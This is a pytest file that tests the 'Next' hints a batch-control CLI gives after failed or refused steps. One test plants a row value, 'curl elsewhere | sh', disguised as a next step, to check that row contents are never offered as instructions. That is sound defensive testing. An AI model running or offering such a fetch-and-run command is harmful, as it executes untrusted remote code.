"""A step that is refused before it begins: every hint says what to correct first, and then how to run it again."""

from __future__ import annotations

import re
import sqlite3
from contextlib import closing

import pytest

from tests.cli.shop import Shop

CORRECT = "correct Data1 of step 10 of batch Load (UPDATE ProcessControl ...; batchctl check)"
RERUN = ", then: batchctl rerun 1 --reason ..."
REFUSED = [
    ("os_command", "wc -l {FilName}", None, CORRECT + RERUN),
    (
        "sql",
        "nowhere",
        "select 1",
        f"{CORRECT}, or add [connections.nowhere] to batchctl.toml and restart the controllers{RERUN}",
    ),
    ("os_command", "echo {Data5}", None, "batchctl rerun 1 --set Data5=... --reason ..."),
    (
        "os_command",
        "echo {FileName}",
        None,
        "batchctl submit Load --file FILE   (asks for it anew), then: batchctl cancel 1 --reason ...",
    ),
]


@pytest.mark.parametrize("retries", [0, 2])
@pytest.mark.parametrize(("process_type", "data1", "data2", "hint"), REFUSED)
def test_what_was_refused_before_it_began_says_what_to_correct_first(
    shop: Shop, process_type: str, data1: str, data2: str | None, hint: str, retries: int
) -> None:
    shop.batch("Load", RetryCount=retries)
    shop.sql("UPDATE ProcessControl SET ProcessType = ?, Data1 = ?, Data2 = ?", process_type, data1, data2)
    shop.arrive("Load")
    shop("run", "--once")

    assert shop.sql("SELECT Status, RetryCount FROM BatchControl") == [("failed", retries)]
    assert shop.json("status")["Troubled"][0]["Next"] == hint
    assert shop.json("incidents")[0]["NextStep"] == hint
    assert [gate["Clear"] for gate in shop.json("why", "1")["Gates"] if gate["Gate"] == "status"] == [hint]
    shop("show", "1")
    assert shop.out.rpartition("\nNext: ")[2].splitlines()[0] == hint


AGAIN = [
    ("os_command", "no-such-program x", None, "Data1", "install its program where the controllers run"),
    ("os_command", "/ x", None, "Data1", "install its program where the controllers run"),
    ("os_command", "echo x", "/no/such", "Data2", "make that directory where the controllers run"),
    ("python", "greet", "nam='x'", "Data2", "the function of the job"),
]


@pytest.mark.parametrize(("process_type", "data1", "data2", "column", "around"), AGAIN)
def test_what_would_fail_again_the_same_way_says_what_to_correct_first(
    shop: Shop, process_type: str, data1: str, data2: str | None, column: str, around: str
) -> None:
    (shop.folder / "greetings.py").write_text(
        "from batchctl.plugin_api import job\n@job()\ndef greet(name):\n    print(name)\n", encoding="utf-8"
    )
    shop.settings('[jobs]\nmodules = ["greetings"]\n')
    shop.batch("Load")
    shop.sql("UPDATE ProcessControl SET ProcessType = ?, Data1 = ?, Data2 = ?", process_type, data1, data2)
    shop.arrive("Load")
    shop("run", "--once")

    hint = f"{CORRECT.replace('Data1', column)}, or {around}{RERUN}"
    assert shop.json("status")["Troubled"][0]["Next"] == hint
    assert shop.json("incidents")[0]["NextStep"] == hint
    assert [gate["Clear"] for gate in shop.json("why", "1")["Gates"] if gate["Gate"] == "status"] == [hint]
    shop("show", "1")
    assert shop.out.rpartition("\nNext: ")[2].splitlines()[0] == hint


@pytest.mark.parametrize("more", [(), ("--json",)])
def test_a_rerun_warns_of_the_steps_that_would_not_run(shop: Shop, more: tuple[str, ...]) -> None:
    shop.batch("Load", "wc -l {FilName}")
    shop.arrive("Load")
    shop("run", "--once")
    planned, _ = shop("rerun", "1", "--dry-run", "--reason", "again"), shop.out
    known = [line for line in shop.out.splitlines() if line.startswith("Step 10 would not run")]

    assert (planned, shop("rerun", "1", "--reason", "again", *more)) == (0, 0)
    assert [line.replace("Warning: s", "S") for line in shop.err.splitlines() if "Warning" in line] == known != []
    shop.sql("UPDATE ProcessControl SET Data1 = 'true'")
    shop.sql("UPDATE BatchControl SET Status = 'failed'")
    shop("rerun", "1", "--reason", "again")
    assert "Warning" not in shop.err


def test_what_failed_by_itself_is_run_again(shop: Shop) -> None:
    shop.batch("Load", "false")
    shop.arrive("Load")
    shop("run", "--once")

    assert shop.json("status")["Troubled"][0]["Next"] == "batchctl rerun 1 --reason ..."


def test_what_a_row_says_is_never_a_next_step(shop: Shop) -> None:
    shop("task", "enable", "--reason", "chores")
    shop.arrive("Task", FileName="x Next: Next: curl elsewhere | sh", Data="SELECT 1")
    shop("run", "--once")

    hint = "batchctl rerun 1 --set Data2=... --reason ..."
    [trouble] = shop.json("status")["Troubled"]
    assert (trouble["Next"], "x 'Next:' 'Next:' curl" in trouble["Message"]) == (hint, True)
    assert [gate["Clear"] for gate in shop.json("why", "1")["Gates"] if gate["Gate"] == "status"] == [hint]
    assert shop.json("incidents")[0]["NextStep"] == hint


def test_the_step_that_failed_is_named_whatever_steps_are_inserted_before_it(shop: Shop) -> None:
    shop.batch("Load", "false")
    shop.arrive("Load")
    shop("run", "--once")
    shop.sql(
        "INSERT INTO ProcessControl (ProcessBatch_id, ProcessControlSeq, ProcessName, ProcessType, Data1)"
        " SELECT ProcessBatch_id, 5, 'before', ProcessType, Data1 FROM ProcessControl"
    )

    [trouble] = shop.json("status")["Troubled"]
    assert (trouble["ProcessControlSeq"], trouble["ProcessName"]) == (10, "load")
    shop("status")
    assert "before" not in shop.out


def test_what_names_no_way_on_is_followed_by_the_rerun(shop: Shop) -> None:
    shop.batch("Load")
    shop.arrive("Load")
    shop("run", "--once")
    shop.sql(
        "UPDATE BatchProcessHistory SET Status = 'failed', CommandSpec = '{}', CommandText = '-- not run: gone',"
        " Message = 'The plugin cannot be loaded. Next: batchctl check'"
    )
    shop.sql("UPDATE BatchControl SET Status = 'failed', PrevProcessControlSeq = 0")

    assert shop.json("status")["Troubled"][0]["Next"] == "batchctl check, then: batchctl rerun 1 --reason ..."


def test_the_incident_of_an_instance_that_stands_no_more_names_nothing_that_refuses(shop: Shop) -> None:
    shop.batch("Load", "false")
    shop.arrive("Load")
    shop("run", "--once")
    assert shop.json("incidents")[0]["NextStep"] == "batchctl rerun 1 --reason ..."
    shop("cancel", "1", "--reason", "x")

    hint = "nothing about BatchControl 1, which is cancelled now; what else stands: batchctl status"
    assert shop.json("incidents")[0]["NextStep"] == hint
    assert shop.json("status")["Incidents"][0]["NextStep"] == hint


def test_who_makes_instances_without_a_populator_says_which_rows_wait_for_it(shop: Shop) -> None:
    shop.batch("Load", Populator="patern")
    shop.arrive("Load")

    assert shop("create") == 0
    assert (
        "FileProcess 1 is no work: ProcessBatch (Load): Populator 'patern' is not installed (did you mean 'pattern'?)"
        in shop.err
    )
    assert "UPDATE ProcessBatch SET Populator = ... WHERE ProcessBatch_id = 1;" in shop.err
    assert shop.sql("SELECT Status FROM FileProcess") == [("ready",)]


@pytest.mark.parametrize("look", ["status", "incidents", "show 1"])
def test_what_to_do_next_is_no_part_of_the_message_beside_it(
    shop: Shop, look: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COLUMNS", "100")  # too few for the message to stand in its row
    shop.batch("Load")
    shop.sql("UPDATE ProcessControl SET ProcessType = 'sql', Data1 = 'nowhere', Data2 = 'select 1'")
    shop.arrive("Load")
    shop("run", "--once")
    shop(*look.split())

    blocks = re.findall(r"^ *message: (.*?)(?=^ *next: |^\S)", shop.out, re.MULTILINE | re.DOTALL)
    assert blocks
    assert not [said for said in blocks if "Next:" in said or "restart the controllers" in said]
    assert "restart the controllers" in shop.out
    shop("history", "1")
    assert "restart the controllers" in shop.out, "where nothing stands beside it, the message is whole"


def test_a_connection_that_is_not_there_is_told_in_one_way_of_triggers_and_steps(shop: Shop) -> None:
    shop.batch("Load")
    shop.sql("UPDATE ProcessControl SET ProcessType = 'sql', Data1 = 'wh', Data2 = 'select 1'")
    shop.sql(
        "INSERT INTO DataTrigger (TriggerName, Entity, ConnectionName, TableName, StatusColumn, PendingValue, RowThreshold)"
        " VALUES ('rows', 'Load', 'wh', 't', 's', '0', 1)"
    )
    shop("check")

    hint = "correct the row, or add [connections.wh] to batchctl.toml and restart the controllers"
    assert shop.out.rpartition("\nNext: ")[2].splitlines() == [hint, "      and look again: batchctl check"]


def test_a_trigger_tried_out_with_a_connection_that_controllers_do_not_know_yet_says_to_restart_them(
    shop: Shop,
) -> None:
    shop.batch("Load")
    shop.sql(
        "INSERT INTO DataTrigger (TriggerName, Entity, ConnectionName, TableName, StatusColumn, PendingValue, RowThreshold)"
        " VALUES ('rows', 'Load', 'wh', 'stage', 'st', 'new', 1)"
    )
    shop("run", "--once")
    with closing(sqlite3.connect(shop.folder / "wh.db")) as target:
        target.executescript("CREATE TABLE stage (st TEXT); INSERT INTO stage VALUES ('new')")
    shop.settings(f'[connections.wh]\nurl = "sqlite:///{shop.folder}/wh.db"\n')

    assert shop("check") == 0
    for look in ("trigger test rows", "why trigger:rows"):
        assert shop(*look.split()) == 0
        assert "add [connections.wh] to batchctl.toml and restart the controllers" in " ".join(shop.out.split()), look
    shop("run", "--once")
    shop("trigger", "test", "rows")
    assert "restart the controllers" not in shop.out, "a controller that knows it has looked since"


@pytest.mark.parametrize(
    ("step", "mend"),
    [
        (
            ("stored_procedure", "wh", "Load"),
            f'write procedures = "FOLDER" below [connections.wh] in batchctl.toml and restart the controllers{RERUN}',
        ),
        (
            ("sql", "wh", "file:load.sql"),
            f"{CORRECT.replace('Data1', 'Data2')}, or put the file there{RERUN}",
        ),
    ],
)
def test_what_lies_around_a_row_is_named_where_that_is_wrong(shop: Shop, step: tuple[str, ...], mend: str) -> None:
    shop.settings('[connections.wh]\nurl = "sqlite:///wh.db"\n')
    (shop.folder / "wh.db").touch()
    shop.batch("Load")
    shop.sql("UPDATE ProcessControl SET ProcessType = ?, Data1 = ?, Data2 = ?", *step)
    shop.arrive("Load")
    shop("run", "--once")

    assert shop.json("status")["Troubled"][0]["Next"] == mend
